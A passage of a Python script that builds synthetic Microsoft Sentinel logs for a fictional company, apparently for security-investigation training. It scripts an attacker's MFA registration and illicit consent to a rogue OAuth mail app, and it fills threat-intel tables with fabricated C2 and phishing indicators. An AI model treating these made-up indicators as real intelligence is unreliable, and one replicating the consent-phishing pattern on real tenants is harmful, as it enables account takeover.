              entities(ent_host(WEB), ent_ip(ip)),
              {"Compromised Host": "SRV-WEB01", "Source IP": ip, "resourceType": "Non-Azure Machine"},
              "SRV-WEB01", t - HOUR, t, "Reconnaissance", ["T1595"], host=WEB,
              alert_type="Network_TrafficFromUnrecommendedIP")
    for ip in SCANNER_IPS[:4] + [SSH_BRUTE_IP]:
        t = at(-4, "23:41:37") if ip == SSH_BRUTE_IP else when()
        alert(t, "Failed SSH brute force attack", "Low", "Azure Security Center",
              f"Several failed ssh logons to lnx-web-01 from {ip} with many different user names.",
              entities(ent_host("lnx-web-01"), ent_ip(ip)),
              {"Compromised Host": "lnx-web-01", "Attacker IP": ip, "Number of failed authentication attempts":
               str(RNG.randrange(6, 25)), "resourceType": "Non-Azure Machine"},
              "lnx-web-01", t - 30 * MINUTE, t - 5 * MINUTE, "PreAttack", ["T1110"], host="lnx-web-01",
              alert_type="VM_SshBruteForceFailed")
    for _ in range(3):
        admin = pick(ADMINS)
        t = when()
        alert(t, "Rare subscription-level operations in Azure", "Low", "Azure Sentinel",
              f"{admin['upn']} performed role assignments, which this account rarely does.",
              entities(ent_account(admin), ent_ip(OFFICE["US"][0])),
              sentinel_ext('AzureActivity\n| where OperationNameValue endswith "roleAssignments/write"', 1,
                           ["AzureActivity"], period="14.00:00:00"), admin["upn"], t - HOUR, t, "Persistence",
              ["T1098"])
    for _ in range(3):
        user = pick([u for u in USER_LIST if u["dept"] == "HR"])
        t = when()
        alert(t, "Multiple password reset by user", "Informational", "Azure Sentinel",
              f"{user['upn']} reset the passwords of several accounts.",
              entities(ent_account(user)), sentinel_ext("AuditLogs\n| where OperationName has 'reset password'",
                                                        RNG.randrange(3, 7), ["AuditLogs"]),
              user["upn"], t - HOUR, t, "CredentialAccess", ["T1098"])
    for _ in range(3):
        user = pick([u for u in USER_LIST if u["dept"] == "Finance" and u is not VICTIM])
        t = work_time(user["tz"], weekend_weight=0.0, hi=END_T - HOUR)
        alert(t, "Mass download by a single user", "Informational", "Azure Sentinel",
              f"{user['upn']} downloaded an unusual number of files from SharePoint (month-end reporting).",
              entities(ent_account(user)), sentinel_ext('OfficeActivity\n| where Operation == "FileDownloaded"\n'
                                                        '| summarize count() by UserId, bin(TimeGenerated, 1h)',
                                                        RNG.randrange(20, 60), ["OfficeActivity"]),
              user["upn"], t - HOUR, t, "Exfiltration", ["T1567"])
    for _ in range(2):
        admin = pick(ADMINS)
        t = when()
        alert(t, "User added to Azure AD privileged groups", "Informational", "Azure Sentinel",
              f"{admin['upn']} added a user to a privileged directory role.",
              entities(ent_account(admin)), sentinel_ext("AuditLogs\n| where OperationName == 'Add member to role'",
                                                         1, ["AuditLogs"]), admin["upn"], t - HOUR, t,
              "PrivilegeEscalation", ["T1078"])
    for _ in range(3):
        t = when()
        alert(t, "Multiple RDP connections from single system", "Informational", "Azure Sentinel",
              "WKS-IT-01 opened RDP sessions to several servers.",
              entities(ent_host("WKS-IT-01.contoso.com"), ent_account(USERS["james.miller"])),
              sentinel_ext("SecurityEvent\n| where EventID == 4624 and LogonType == 10\n| summarize dcount(Computer) "
                           "by IpAddress", 3, ["SecurityEvent"]), "WKS-IT-01", t - HOUR, t, "LateralMovement",
              ["T1021"])


# ---------------------------------------------------------------------------------------------------------------
# ThreatIntelligenceIndicator
# ---------------------------------------------------------------------------------------------------------------

TI_SOURCES = [("Microsoft Emerging Threat Feed", "Microsoft", 4), ("SecurityGraph", "Microsoft", 2),
              ("AlienVault OTX", "AlienVault", 2), ("MISP", "CIRCL MISP", 1)]
BAD_WORDS = (["secure", "login", "account", "verify", "update", "cdn", "mail", "portal", "auth", "sso", "docs",
              "invoice", "billing", "support", "share", "files"],
             ["office365", "microsoft", "outlook", "docusign", "dropbox", "paypal", "adobe", "fedex", "dhl",
              "onedrive", "sharepoint", "wetransfer"],
             [".xyz", ".top", ".online", ".site", ".click", ".info", ".live", ".icu", ".shop", ".cfd"])
MALWARE = ["Emotet", "QakBot", "AsyncRAT", "IcedID", "CobaltStrike", "Lumma Stealer", "RedLine", "AgentTesla"]


def ti(t, ttype, confidence, description, tags, source=None, severity=3, **cells):
    source = source or wpick([((s, p), w) for s, p, w in TI_SOURCES])
    emit("ThreatIntelligenceIndicator", t, Action="alert", Active=True, AzureTenantId=AAD_TENANT_ID,
         ConfidenceScore=float(confidence), Description=description,
         ExpirationDateTime=t + RNG.choice([30, 60, 90]) * DAY, ExternalIndicatorId="indicator--" + guid(),
         IndicatorId=guid().replace("-", "").upper()[:32], IndicatorProvider=source[1], PassiveOnly=False,
         SourceSystem=source[0], Tags=dyn(tags), ThreatSeverity=severity, ThreatType=ttype,
         TrafficLightProtocolLevel=pick(["green", "green", "amber", "white"]), **cells)


def bad_domain():
    while True:
        a, b, c = BAD_WORDS
        d = f"{pick(a)}-{pick(b)}-{RNG.randrange(10, 999)}{pick(c)}" if RNG.random() < 0.6 else \
            f"{pick(b)}{pick(a)}{pick(c)}"
        if d != C2_DOMAIN:
            return d


def gen_threatintel(n_benign=144):
    # The story's indicators.
    c2_time = at(-6, "04:12:33")
    ti(c2_time, "C2", 90, "Cobalt Strike-like PowerShell stager infrastructure (northwind-sync)",
       ["C2", "PowerShell", "northwind-sync"], source=("Microsoft Emerging Threat Feed", "Microsoft"), severity=5,
       DomainName=C2_DOMAIN, KillChainC2=True, MalwareNames="PowerShell stager")
    ti(c2_time + 2 * TPS, "MaliciousUrl", 90, "Stage-2 PowerShell download URL (northwind-sync)",
       ["C2", "PowerShell", "northwind-sync"], source=("Microsoft Emerging Threat Feed", "Microsoft"), severity=5,
       Url=STAGE2_URL, DomainName=C2_DOMAIN, KillChainDelivery=True)
    ti(c2_time + 4 * TPS, "C2", 85, "C2 server for the northwind-sync PowerShell implant",
       ["C2", "northwind-sync"], source=("Microsoft Emerging Threat Feed", "Microsoft"), severity=5,
       NetworkIP=C2_IP, NetworkDestinationIP=C2_IP, NetworkDestinationPort=443, KillChainC2=True)
    ti(at(-14, "08:00:12"), "Proxy", 75, "Tor exit node, seen in password spraying against Microsoft 365",
       ["Tor", "password-spray"], source=("SecurityGraph", "Microsoft"), severity=3, NetworkIP="185.220.101.45",
       NetworkSourceIP="185.220.101.45")
    ti(at(-9, "13:27:51"), "Botnet", 70, "Host brute-forcing SSH and Microsoft 365 accounts",
       ["brute-force", "ssh", "password-spray"], source=("AlienVault OTX", "AlienVault"), severity=3,
       NetworkIP="45.153.160.2", NetworkSourceIP="45.153.160.2")
    ti(at(-5, "21:09:03"), "Botnet", 65, "Password spraying infrastructure",
       ["password-spray"], source=("AlienVault OTX", "AlienVault"), severity=3, NetworkIP="193.142.146.213",
       NetworkSourceIP="193.142.146.213")
    # Everything else in the feed.
    pinned = [at(-1, "02:15:44"), at(-1, "09:48:30"), at(-1, "18:30:05")]
    for i in range(n_benign):
        t = pinned[i] if i < len(pinned) else any_time()
        kind = wpick([("ip", 34), ("domain", 28), ("url", 17), ("file", 17), ("email", 4)])
        if kind == "ip":
            ip = SCANNER_IPS[i % len(SCANNER_IPS)] if i < 16 and i % 2 == 0 else internet_ip()
            ttype = pick(["Botnet", "Proxy", "MaliciousActivity", "C2"])
            ti(t, ttype, RNG.randrange(25, 95), pick(["Scanning host", "SSH brute force source", "Open proxy",
                                                      "Botnet node", "Known C2 server"]), [ttype.lower()],
               NetworkIP=ip, NetworkSourceIP=ip if ttype != "C2" else "", NetworkDestinationIP=ip if ttype == "C2"
               else "")
        elif kind == "domain":
            d = bad_domain()
            ttype = pick(["Phishing", "Phishing", "Malware", "C2"])
            ti(t, ttype, RNG.randrange(30, 95), f"{ttype} domain", [ttype.lower()], DomainName=d,
               MalwareNames=pick(MALWARE) if ttype != "Phishing" else "")
        elif kind == "url":
            d = bad_domain()
            doc_id = RNG.randrange(1000, 99999)
            path = pick(["wp-admin/css/login.php", "invoice.zip", "o365/index.html", "download/setup.exe",
                         "gate.php", "panel/login", "dropbox/file.html", f"docs/view.php?id={doc_id}"])
            ti(t, "MaliciousUrl", RNG.randrange(40, 95), "Malicious URL", ["url", pick(["phishing", "malware"])],
               Url=f"http{'s' if RNG.random() < 0.5 else ''}://{d}/{path}", DomainName=d)
        elif kind == "file":
            mal = pick(MALWARE)
            ti(t, "Malware", RNG.randrange(50, 100), f"{mal} sample", ["malware", mal.lower()],
               FileHashType="SHA256", FileHashValue=f"{RNG.getrandbits(256):064x}", MalwareNames=mal,
               FileName=pick(["invoice.pdf.exe", "update.dll", "setup.msi", "scan_0012.js", "doc_48213.lnk"]),
               FileType=pick(["PE32", "JS", "LNK", "DLL"]))
        else:
            d = bad_domain()
            ti(t, "Phishing", RNG.randrange(40, 90), "Phishing sender", ["phishing", "email"],
               EmailSenderAddress=f"{pick(['billing', 'no-reply', 'support', 'hr'])}@{d}", EmailSourceDomain=d,
               EmailSubject=pick(["Payment overdue", "Your mailbox is full", "Shared document", "Invoice attached"]))
    # Last, and on a saved random state, so that no other row changes: the URL the Tour looks up (its
    # `Url.tilookup_url` pivot cell).
    state = RNG.getstate()
    ti(at(-3, "11:41:07"), "MaliciousUrl", 80, "Compromised web server hosting a malware download page",
       ["url", "malware"], source=("AlienVault OTX", "AlienVault"), severity=4, Url=TOUR_TI_URL,
       NetworkIP="85.214.149.236", NetworkDestinationIP="85.214.149.236", NetworkDestinationPort=443)
    RNG.setstate(state)


# ---------------------------------------------------------------------------------------------------------------
# AuditLogs and AADNonInteractiveUserSignInLogs (added later than the other tables: they draw from their own random
# generator, EXTRA_SEED, so that every row of the ten older tables stays byte-identical)
# ---------------------------------------------------------------------------------------------------------------

EXTRA_SEED = SEED + 15
AAD_RESOURCE_ID = f"/tenants/{AAD_TENANT_ID}/providers/Microsoft.aadiam"
# The attacker's OAuth application (a multi-tenant app registered in the attacker's own tenant) that mike.jones's
# session consents to, and the story times of the Entra ID audit events (fixed fractions: `at` with a random one
# would draw from the main generator and change the older tables).
ROGUE_APP = "Mail Backup Sync"
ROGUE_APP_ID = "7b3e2a91-5c4d-4f8e-9a1b-2c3d4e5f6a70"          # its application (client) id
ROGUE_APP_SP = "d41f7c2e-8a93-4b6d-b1e5-0f2a3c4d5e6f"          # its service principal (object id) in contoso
ROGUE_APP_SCOPES = "User.Read offline_access Mail.ReadWrite Mail.Send Files.Read.All Contacts.Read " \
                   "MailboxSettings.ReadWrite"
GRAPH_APP_ID = "00000003-0000-0000-c000-000000000000"          # Microsoft Graph (first party)
GRAPH_SP = "5f0c3b8e-2d4a-4e6f-9b1c-7a8d9e0f1a2b"              # Microsoft Graph's service principal in contoso
MFA_START = at(-3, "00:46:51", False) + 4770086             # "User started security info registration" from the attacker IP
MFA_REGISTERED = at(-3, "00:47:49", False) + 400399        # "User registered security info" + "Update user" (StrongAuthenticationMethod)
APP_CONSENT = at(-3, "01:10:44", False) + 4544721           # "Add service principal" … "Consent to application" (Mail Backup Sync)
FIRST_APP_TOKEN = at(-3, "01:11:30", False) + 1808829       # the app's first non-interactive token for mike.jones

NONINTERACTIVE_APPS = {   # name -> (app id, resource), the clients that refresh tokens in the background
    "Microsoft Teams": ("1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams Services"),
    "Microsoft Office": ("d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Graph"),
    "Microsoft Outlook": ("5d661950-3475-41cd-a2c3-d671a3162bc1", "Office 365 Exchange Online"),
    "OneDrive SyncEngine": ("ab9b8c07-8f02-4f72-87fa-80105867a763", "Office 365 SharePoint Online"),
    "Office 365 Exchange Online": ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"),
    "Windows Sign In": ("38aa3b87-a06d-4817-b275-7a316988d93b", "Windows Azure Active Directory"),
    ROGUE_APP: (ROGUE_APP_ID, "Microsoft Graph"),
}
NONINTERACTIVE_ERRORS = {
    "0": "",
    "50173": "The provided grant has expired due to it being revoked, a fresh auth token is needed. The user might "
             "have changed or reset their password.",
    "70043": "The refresh token has expired or is invalid due to sign-in frequency checks by conditional access.",
    "50133": "Session is invalid due to expiration or recent password change.",
}
ROGUE_APP_UA = "Mozilla/5.0 (compatible; MailBackupSync/2.3; +https://mailbackupsync.app)"

SCHEMAS["AuditLogs"] = """
    AADOperationType:string AADTenantId:string ActivityDateTime:datetime ActivityDisplayName:string
    AdditionalDetails:dynamic Category:string CorrelationId:string DurationMs:long Id:string Identity:string
    InitiatedBy:dynamic Level:string Location:string LoggedByService:string OperationName:string
    OperationVersion:string Resource:string ResourceGroup:string ResourceId:string ResourceProvider:string
    Result:string ResultDescription:string ResultReason:string ResultSignature:string ResultType:string
    SourceSystem:string TargetResources:dynamic TimeGenerated:datetime Type:string
"""
SCHEMAS["AADNonInteractiveUserSignInLogs"] = """
    AlternateSignInName:string AppDisplayName:string AppId:string AppliedEventListeners:dynamic
    AuthenticationContextClassReferences:string AuthenticationDetails:string AuthenticationMethodsUsed:string
    AuthenticationProcessingDetails:string AuthenticationProtocol:string AuthenticationRequirement:string
    AuthenticationRequirementPolicies:string AutonomousSystemNumber:string Category:string ClientAppUsed:string
    ConditionalAccessPolicies:string ConditionalAccessStatus:string CorrelationId:string CreatedDateTime:datetime
    CrossTenantAccessType:string DeviceDetail:string DurationMs:long HomeTenantId:string Id:string Identity:string
    IPAddress:string IsInteractive:bool IsRisky:bool Level:string Location:string LocationDetails:string
    MfaDetail:string NetworkLocationDetails:string OperationName:string OperationVersion:string
    OriginalRequestId:string ProcessingTimeInMs:string ResourceDisplayName:string ResourceGroup:string
    ResourceIdentity:string ResourceServicePrincipalId:string ResourceTenantId:string ResultDescription:string
    ResultSignature:string ResultType:string RiskDetail:string RiskEventTypes:string RiskEventTypes_V2:string
    RiskLevelAggregated:string RiskLevelDuringSignIn:string RiskState:string ServicePrincipalId:string
    SessionLifetimePolicies:string SignInEventTypes:string SignInIdentifierType:string SourceSystem:string
    Status:string TenantId:string TimeGenerated:datetime TokenIssuerName:string TokenIssuerType:string Type:string
    UniqueTokenIdentifier:string UserAgent:string UserDisplayName:string UserId:string UserPrincipalName:string
    UserType:string
"""
TABLE_ORDER += ["AuditLogs", "AADNonInteractiveUserSignInLogs"]
for _name in ("AuditLogs", "AADNonInteractiveUserSignInLogs"):
    TABLES[_name] = []


def audit_user(user, ip):
    """InitiatedBy for an action a user took."""
    return {"user": {"id": user["id"], "displayName": None, "userPrincipalName": user["upn"], "ipAddress": ip,
                     "roles": []}}


def audit_app(name, sp_id):
    """InitiatedBy for an action an application (service principal) took."""
    return {"app": {"appId": None, "displayName": name, "servicePrincipalId": sp_id, "servicePrincipalName": None}}


def prop(name, old, new):
    """One modifiedProperties entry: Entra ID writes old and new values as JSON text (or null)."""
    return {"displayName": name, "oldValue": None if old is None else json.dumps(old, separators=(",", ":")),
            "newValue": None if new is None else json.dumps(new, separators=(",", ":"))}


def target_user(user, props=()):
    return {"id": user["id"], "displayName": None, "type": "User", "userPrincipalName": user["upn"],
            "modifiedProperties": list(props), "administrativeUnits": []}


def target_sp(sp_id, name, props=(), kind="ServicePrincipal"):
    return {"id": sp_id, "displayName": name, "type": kind, "modifiedProperties": list(props),
            "administrativeUnits": []}


def audit(t, operation, category, service, op_type, initiated_by, targets, details=(), result="success",
          reason="", correlation=None, identity=None):
    """One AuditLogs row. ActivityDisplayName and OperationName are the same text, as in Entra ID."""
    correlation = correlation or guid()
    if identity is None:
        identity = initiated_by["app"]["displayName"] if "app" in initiated_by else \
            USERS_BY_UPN[initiated_by["user"]["userPrincipalName"]]["display"]
    prefix = {"Authentication Methods": "UserManagement", "Self-service Password Management": "SSGM"}.get(
        service, "Directory")
    emit("AuditLogs", t, AADOperationType=op_type, AADTenantId=AAD_TENANT_ID, ActivityDateTime=t,
         ActivityDisplayName=operation, AdditionalDetails=dyn([{"key": k, "value": v} for k, v in details]),
         Category=category, CorrelationId=correlation, DurationMs=0,
         Id=f"{prefix}_{correlation.upper()}_{''.join(pick('ABCDEFGHJKLMNPQRSTUVWXYZ') for _ in range(5))}_"
            f"{RNG.randrange(10**8, 10**9)}",
         Identity=identity, InitiatedBy=dyn(initiated_by), Level="4", Location="NA", LoggedByService=service,
         OperationName=operation, OperationVersion="1.0", Resource="Microsoft.aadiam",
         ResourceGroup="Microsoft.aadiam", ResourceId=AAD_RESOURCE_ID, ResourceProvider="Microsoft.aadiam",
         Result=result, ResultDescription="", ResultReason=reason, ResultSignature="None", ResultType="",
         SourceSystem="Azure AD", TargetResources=dyn(list(targets)))
    return correlation


USERS_BY_UPN = {u["upn"]: u for u in USER_LIST}
# First-party and tenant service principals that act in the audit log, with made-up object ids in contoso
SP = {"Microsoft Substrate Management": "b2c4f1e0-3a5d-4c7b-8e9f-0a1b2c3d4e50",
      "Device Registration Service": "c3d5e2f1-4b6e-4d8c-9fa0-1b2c3d4e5f61",
      "Microsoft Azure AD Group-Based Licensing": "d4e6f3a2-5c7f-4e9d-a0b1-2c3d4e5f6a72",
      "Contoso HR Connector": "e5f7a4b3-6d8a-4fa0-b1c2-3d4e5f6a7b83",
      "Contoso Backup Automation": "f6a8b5c4-7e9b-4ab1-c2d3-4e5f6a7b8c94",
      "Zoom": "a7b9c6d5-8fac-4bc2-93e4-5f6a7b8c9da5"}
APP_IDS = {"Contoso HR Connector": "0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0",
           "Contoso Backup Automation": "1a2b3c4d-5e6f-4a8b-9c0d-e1f2a3b4c5d6",
           "Zoom": "8d2a3f9c-1b4e-4c7d-9e2f-3a4b5c6d7e8f"}


def consent_permissions(client_sp, principal, scopes, consent_type="Principal"):
    return (f"[] => [[Id: {b64_utf8(client_sp + principal)[:43]}, ClientId: {client_sp}, PrincipalId: {principal}, "
            f"ResourceId: {GRAPH_SP}, ConsentType: {consent_type}, Scope: {scopes}, CreatedDateTime: , "
            f"LastModifiedDateTime ]]; ")


def app_consent(t, user, ip, ua, app, app_id, sp_id, scopes, new_sp=True, admin=False):
    """What Entra ID writes when a user consents to an application: the service principal (first consent in the
    tenant), the delegated permission grant, the user's app role assignment and the consent, under one
    CorrelationId."""
    corr = guid()
    by = audit_user(user, ip)
    details = [("User-Agent", ua), ("AppId", app_id)]
    if new_sp:
        audit(t, "Add service principal", "ApplicationManagement", "Core Directory", "Add", by,
              [target_sp(sp_id, app, [prop("AccountEnabled", [], [True]), prop("AppPrincipalId", [], [app_id]),
                                      prop("DisplayName", [], [app]), prop("ServicePrincipalName", [], [app_id]),
                                      prop("Included Updated Properties", None,
                                           "AccountEnabled, AppPrincipalId, DisplayName, ServicePrincipalName")])],
              details, correlation=corr)
    consent_type = "AllPrincipals" if admin else "Principal"
    audit(t + TPS, "Add delegated permission grant", "ApplicationManagement", "Core Directory", "Assign", by,
          [target_sp(GRAPH_SP, "Microsoft Graph", [prop("DelegatedPermissionGrant.Scope", "", " " + scopes),
                                                    prop("DelegatedPermissionGrant.ConsentType", "", consent_type),
                                                    prop("ServicePrincipal.ObjectID", "", GRAPH_SP),
                                                    prop("Included Updated Properties", None,
                                                         "DelegatedPermissionGrant.Scope")]),
           target_sp(sp_id, None, [])], details, correlation=corr)
    if not admin:
        audit(t + TPS + TPS // 2, "Add app role assignment grant to user", "UserManagement", "Core Directory",
              "Assign", by,
              [target_sp(sp_id, app, [prop("AppRole.Id", None, "00000000-0000-0000-0000-000000000000"),
                                      prop("AppRole.Value", None, ""), prop("AppRole.DisplayName", None, ""),
                                      prop("User.ObjectID", None, user["id"]), prop("User.UPN", None, user["upn"]),
                                      prop("ServicePrincipal.ObjectID", None, sp_id),
                                      prop("ServicePrincipal.DisplayName", None, app)]),
               target_user(user)], details, correlation=corr)
    audit(t + 2 * TPS, "Consent to application", "ApplicationManagement", "Core Directory", "Assign", by,
          [target_sp(sp_id, app, [prop("ConsentContext.IsAdminConsent", None, str(admin)),
                                  prop("ConsentContext.IsAppOnly", None, "False"),
                                  prop("ConsentContext.OnBehalfOfAll", None, str(admin)),
                                  prop("ConsentContext.Tags", None, "WindowsAzureActiveDirectoryIntegratedApp"),
                                  prop("ConsentAction.Permissions", None,
                                       consent_permissions(sp_id, "" if admin else user["id"], scopes,
                                                           consent_type)),
                                  prop("TargetId.ServicePrincipalNames", None, f"{app_id}")])],
          details, correlation=corr)
    return corr


def mfa_registration(t, user, ip, ua, method="Authenticator App with Notification and Code", first=True,
                     registered=None):
    """A user registering a security-info method (aka.ms/mysecurityinfo), and the user update it writes."""
    by = audit_user(user, ip)
    corr = guid()
    details = [("User-Agent", ua)]
    audit(t, "User started security info registration", "UserManagement", "Authentication Methods", "Add", by,
          [target_user(user)], details, reason=f"User started the registration for {method}", correlation=corr)
    t2 = registered or t + RNG.randrange(40 * TPS, 70 * TPS)
    audit(t2, "User registered security info", "UserManagement", "Authentication Methods", "Add", by,
          [target_user(user)], details, reason=f"User registered {method}", correlation=corr)
    old = [] if first else [{"MethodType": 6, "Default": False}, {"MethodType": 7, "Default": True}]
    new = [{"MethodType": 6, "Default": False}, {"MethodType": 7, "Default": True}] if first else \
        old + [{"MethodType": 0, "Default": False}]
    audit(t2 + TPS, "Update user", "UserManagement", "Core Directory", "Update", by,
          [target_user(user, [prop("StrongAuthenticationMethod", old, new),
                              prop("Included Updated Properties", None, "StrongAuthenticationMethod"),
                              prop("TargetId.UserType", None, "Member")])], details, correlation=corr)
    if first:
        audit(t2 + 2 * TPS, "User registered all required security info", "UserManagement",
              "Authentication Methods", "Add", by, [target_user(user)], details,
              reason="User registered all required security info", correlation=corr)


def gen_auditlogs():
    office_ip = {c: OFFICE[c][0] for c in OFFICE}
    # Everyday directory work by the IT admins.
    depts = sorted({u["dept"] for u in USER_LIST})
    titles = ["Analyst", "Senior Analyst", "Manager", "Specialist", "Associate", "Lead"]
    groups = [("SG-Finance-Reports", "3e1d"), ("SG-VPN-Users", "4f2e"), ("SG-Engineering", "5a3f"),
              ("SG-Sales-CRM", "6b4a"), ("Contoso All Staff", "7c5b"), ("SG-HR-Confidential", "8d6c")]
    group_ids = {g: f"{h}{guid()[4:]}" for g, h in groups}
    for _ in range(150):
        admin = pick(ADMINS)
        t = work_time(admin["tz"])
        ip = office_ip[admin["country"]] if RNG.random() < 0.8 else admin["home_ip"]
        target = pick(USER_LIST)
        ua = user_agent(admin["os"], admin["browser"])
        by = audit_user(admin, ip)
        kind = wpick([("title", 5), ("group", 6), ("reset", 2), ("license", 3), ("phone", 2)])
        if kind == "title":
            old, new = pick(titles), pick(titles)
            audit(t, "Update user", "UserManagement", "Core Directory", "Update", by,
                  [target_user(target, [prop("JobTitle", [old], [new]),
                                        prop("Included Updated Properties", None, "JobTitle"),
                                        prop("TargetId.UserType", None, "Member")])], [("User-Agent", ua)])
        elif kind == "phone":
            audit(t, "Update user", "UserManagement", "Core Directory", "Update", by,
                  [target_user(target, [prop("TelephoneNumber", [], [f"+1 206 555 {RNG.randrange(1000, 9999)}"]),
                                        prop("Included Updated Properties", None, "TelephoneNumber"),
                                        prop("TargetId.UserType", None, "Member")])], [("User-Agent", ua)])
        elif kind == "group":
            g = pick(groups)[0]
            op = wpick([("Add member to group", 3), ("Remove member from group", 1)])
            audit(t, op, "GroupManagement", "Core Directory", "Assign" if op.startswith("Add") else "Unassign", by,
                  [target_user(target, [prop("Group.ObjectID", None, group_ids[g]),
                                        prop("Group.DisplayName", None, g)]),
                   {"id": group_ids[g], "displayName": None, "type": "Group", "modifiedProperties": [],
                    "administrativeUnits": [], "groupType": "unifiedGroups" if "All" in g else "azureAD"}],
                  [("User-Agent", ua)])
        elif kind == "reset":
            audit(t, "Reset user password", "UserManagement", "Core Directory", "Update", by,
                  [target_user(target)], [("User-Agent", ua)])
        else:
            audit(t + RNG.randrange(2 * TPS), "Change user license", "UserManagement", "Core Directory", "Update",
                  by, [target_user(target)], [("User-Agent", ua)])
            audit(t + 3 * TPS, "Update user", "UserManagement", "Core Directory", "Update",
                  audit_app("Microsoft Azure AD Group-Based Licensing",
                            SP["Microsoft Azure AD Group-Based Licensing"]),
                  [target_user(target, [prop("AssignedLicense", [], ["[SkuName=SPE_E3, AccountId=" + AAD_TENANT_ID
                                                                      + ", SkuId=05e9a617-0261-4cee-bb44-138d3ef5d965, "
                                                                        "DisabledPlans=[]]"]),
                                        prop("Included Updated Properties", None, "AssignedLicense"),
                                        prop("TargetId.UserType", None, "Member")])])
    # Self-service password resets and the token revocation each one writes.
    for _ in range(24):
        user = pick(USER_LIST)
        t = work_time(user["tz"])
        ip, _asn, _city, _mobile = user_public_ip(user, t)
        by = audit_user(user, ip)
        corr = audit(t, "Reset password (self-service)", "UserManagement", "Self-service Password Management",
                     "Update", by, [target_user(user)], [("User-Agent", user_agent(user["os"], user["browser"]))],
                     reason="Successfully completed reset.")
        audit(t + 2 * TPS, "Update StsRefreshTokenValidFrom Timestamp", "UserManagement", "Core Directory",
              "Update", audit_app("Microsoft Substrate Management", SP["Microsoft Substrate Management"]),
              [target_user(user, [prop("StsRefreshTokensValidFrom", [iso(t - 40 * DAY, 0)], [iso(t, 0)]),
                                  prop("Included Updated Properties", None, "StsRefreshTokensValidFrom")])],
              correlation=corr)
    # Devices checking in (Device Registration Service), around the clock.
    for _ in range(60):
        user = pick([u for u in USER_LIST if u["workstation"]])
        t = any_time()
        audit(t, "Update device", "Device", "Core Directory", "Update",
              audit_app("Device Registration Service", SP["Device Registration Service"]),
              [{"id": user["device_id"], "displayName": short(user["workstation"] or "WKS"), "type": "Device",
                "modifiedProperties": [prop("ApproximateLastSignInDateTime", None, iso(t, 0)),
                                       prop("Included Updated Properties", None, "ApproximateLastSignInDateTime")],
                "administrativeUnits": []}])
    # Benign security info: two people register a new phone after replacing it, one admin adds a FIDO2 key.
    for key, day, hms in [("sophie.martin", -17, "09:12:40"), ("lucas.king", -9, "17:31:05"),
                          ("robert.brown", -5, "16:44:12")]:
        user = USERS[key]
        t = END_T + day * DAY + sum(int(x) * m for x, m in zip(hms.split(":"), (3600, 60, 1))) * TPS
        mfa_registration(t, user, OFFICE[user["country"]][0], user_agent(user["os"], user["browser"]),
                         method="Authenticator App with Notification and Code", first=False)
    # Benign applications: an admin adds the HR connector with admin consent and an app role, a user consents to
    # Zoom, an admin rotates the backup automation's secret.
    jm = USERS["james.miller"]
    t = at(-16, "18:05:12")
    app_consent(t, jm, OFFICE["US"][0], user_agent(jm["os"], jm["browser"]), "Contoso HR Connector",
                APP_IDS["Contoso HR Connector"], SP["Contoso HR Connector"], "User.Read.All Group.Read.All",
                admin=True)
    audit(t + 40 * TPS, "Add app role assignment to service principal", "ApplicationManagement", "Core Directory",
          "Assign", audit_user(jm, OFFICE["US"][0]),
          [target_sp(GRAPH_SP, "Microsoft Graph",
                     [prop("AppRole.Id", None, "df021288-bdef-4463-88db-98f22de89214"),
                      prop("AppRole.Value", None, "User.Read.All"),
                      prop("AppRole.DisplayName", None, "Read all users' full profiles"),
                      prop("ServicePrincipal.ObjectID", None, SP["Contoso HR Connector"]),
                      prop("ServicePrincipal.DisplayName", None, "Contoso HR Connector")]),
           target_sp(SP["Contoso HR Connector"], APP_IDS["Contoso HR Connector"], [])],
          [("User-Agent", user_agent(jm["os"], jm["browser"])), ("AppId", APP_IDS["Contoso HR Connector"])])
    for key, day, hms in [("laura.garcia", -13, "16:22:08"), ("isabella.wright", -11, "17:40:51"),
                          ("william.harris", -4, "10:03:27")]:
        user = USERS[key]
        t = END_T + day * DAY + sum(int(x) * m for x, m in zip(hms.split(":"), (3600, 60, 1))) * TPS
        app_consent(t, user, OFFICE[user["country"]][0], user_agent(user["os"], user["browser"]), "Zoom",
                    APP_IDS["Zoom"], SP["Zoom"], "User.Read offline_access openid profile Calendars.ReadWrite",
                    new_sp=key == "laura.garcia")
    dw = USERS["daniel.wilson"]
    t = at(-8, "19:14:37")
    key_id = guid()
    old_key = f"[KeyIdentifier={guid()},KeyType=Password,KeyUsage=Verify,DisplayName=backup-2023]"
    new_key = f"[KeyIdentifier={key_id},KeyType=Password,KeyUsage=Verify,DisplayName=backup-2024]"
    audit(t, "Update application – Certificates and secrets management ", "ApplicationManagement",
          "Core Directory", "Update", audit_user(dw, OFFICE["US"][0]),
          [target_sp(APP_IDS["Contoso Backup Automation"].replace("1a2b", "2b3c"), "Contoso Backup Automation",
                     [prop("KeyDescription", [old_key], [old_key, new_key]),
                      prop("Included Updated Properties", None, "KeyDescription")], kind="Application")],
          [("User-Agent", user_agent(dw["os"], dw["browser"])), ("AppId", APP_IDS["Contoso Backup Automation"])])
    # A conditional access change by an admin.
    sw = USERS["samuel.walker"]
    audit(at(-10, "20:48:02"), "Update conditional access policy", "Policy", "Conditional Access", "Update",
          audit_user(sw, OFFICE["US"][0]),
          [{"id": CA_POLICY["id"], "displayName": CA_POLICY["displayName"], "type": "Policy",
            "modifiedProperties": [prop("ConditionalAccessPolicy", {"state": "enabledForReportingButNotEnforced"},
                                        {"state": "enabled"})], "administrativeUnits": []}],
          [("User-Agent", user_agent(sw["os"], sw["browser"]))])

    # The story: mike.jones's session from 185.220.101.45 registers the attacker's authenticator app, then consents
    # to the attacker's OAuth application with mail and file scopes (user consent, ConsentType Principal).
    mfa_registration(MFA_START, VICTIM, ATTACKER_IP, ATTACKER_UA, registered=MFA_REGISTERED)
    app_consent(APP_CONSENT, VICTIM, ATTACKER_IP, ATTACKER_UA, ROGUE_APP, ROGUE_APP_ID, ROGUE_APP_SP,
                ROGUE_APP_SCOPES)


SESSION_CORRELATION = {}


def noninteractive(t, user, app, ip, asn, loc, device, ua, result="0", mfa_claim=False, risk=None,
                   client_app="Mobile Apps and Desktop clients"):
    app_id, resource = NONINTERACTIVE_APPS[app]
    cc, loc_details = loc
    status = {"errorCode": int(result)}
    if result != "0":
        status["failureReason"] = NONINTERACTIVE_ERRORS[result]
    elif mfa_claim:
